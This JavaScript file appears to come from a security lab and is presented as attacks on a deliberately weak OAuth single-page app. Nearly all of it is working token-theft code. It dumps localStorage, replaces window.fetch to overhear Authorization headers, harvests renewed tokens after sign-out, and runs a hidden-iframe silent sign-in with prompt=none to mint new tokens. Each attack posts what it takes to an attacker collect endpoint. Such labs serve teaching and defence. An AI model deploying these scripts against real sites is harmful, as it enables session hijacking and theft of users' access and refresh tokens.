// The lab's attacks on the weak app. They send to the lab's own attacker on this machine and to nobody else.
import * as app from '/app.js';

const attacks = {
  async single() {
    await steal('single');
  },

  // Nothing is stolen: the page does the work.
  async proxy() {
    say('The script calls the API in the victim’s browser.');
    await tell({ scenario: 'proxy', way: 'call', data: await app.whoAmI() });
  },

  async persistent() {
    await steal('persistent');
    for (const round of ['first', 'second']) {
      say(`The access token runs out, and the app renews it for the ${round} time.`);
      await tell({ scenario: 'persistent', way: 'renewed', loot: await renewed() });
    }
  },

  // A flow of the attacker's own, in a frame nobody sees: the person is signed in at the provider, so it just answers.
  async frame() {
    say('The script starts a sign-in of its own in a hidden frame.');
    const verifier = app.random();
    const frame = document.createElement('iframe');
    frame.hidden = true;
    frame.src = await app.authorizeUrl(verifier, app.random(), { prompt: 'none' });
    document.body.append(frame);
    const query = await answerIn(frame);
    frame.remove();
    const body = new URLSearchParams({
      client_id: app.settings.clientId,
      grant_type: 'authorization_code',
      code: query.get('code') ?? '',
      code_verifier: verifier,
      redirect_uri: `${location.origin}/callback`,
    });
    const loot = await (await fetch('/token', { method: 'POST', body })).text();
    await tell({ scenario: 'frame', way: 'frame', loot });
  },

  async logout() {
    say('The access token runs out, and the app renews it while the script is there.');
    await tell({ scenario: 'logout', way: 'renewed', loot: await renewed() });
    app.signOut();
    say('The victim signed out, and the tab could be closed now.');
  },
};

const name = sessionStorage.getItem('attack');
addEventListener('app-ready', async () => {
  sessionStorage.removeItem('attack');
  if (!Object.hasOwn(attacks, name ?? '')) return;
  await attacks[name]();
  say('Done. You can close this tab.');
});

/** One look: into localStorage, or where nothing is there at what the app's next call carries. */
async function steal(scenario) {
  if (app.keeping === 'memory') {
    say('Nothing in storage. The script listens to the app’s next call instead.');
    return tell({ scenario, way: 'overheard', loot: await overhear() });
  }
  say('One look into localStorage.');
  return tell({ scenario, way: 'storage', loot: { ...localStorage } });
}

/** What the app has after it renewed its tokens: in storage, or overheard while it did. */
async function renewed() {
  const heard = overhear();
  await app.timePasses();
  return app.keeping === 'memory' ? heard : { ...localStorage };
}

/** Puts itself in the place of `fetch` until a call went by that carried a token. */
async function overhear() {
  const heard = [];
  const send = window.fetch;
  await new Promise((resolve) => {
    window.fetch = async (input, init) => {
      const authorization = new Headers(init?.headers).get('authorization');
      const answer = await send(input, init);
      heard.push(authorization, await answer.clone().text());
      if (authorization !== null) resolve();
      return answer;
    };
  });
  window.fetch = send;
  return heard;
}

async function tell(message) {
  const body = JSON.stringify({ from: app.keeping, ...message });
  await fetch(`${app.settings.attacker}/collect`, { method: 'POST', mode: 'no-cors', body });
}

async function answerIn(frame) {
  for (let tries = 0; tries < 50; tries += 1) {
    await new Promise((resolve) => setTimeout(resolve, 100));
    try {
      const { pathname, search } = frame.contentWindow.location;
      if (pathname === '/callback') return new URLSearchParams(search);
    } catch {
      // still at the provider
    }
  }
  return new URLSearchParams();
}

function say(text) {
  const item = document.createElement('li');
  item.textContent = text;
  document.querySelector('#attack').append(item);
}
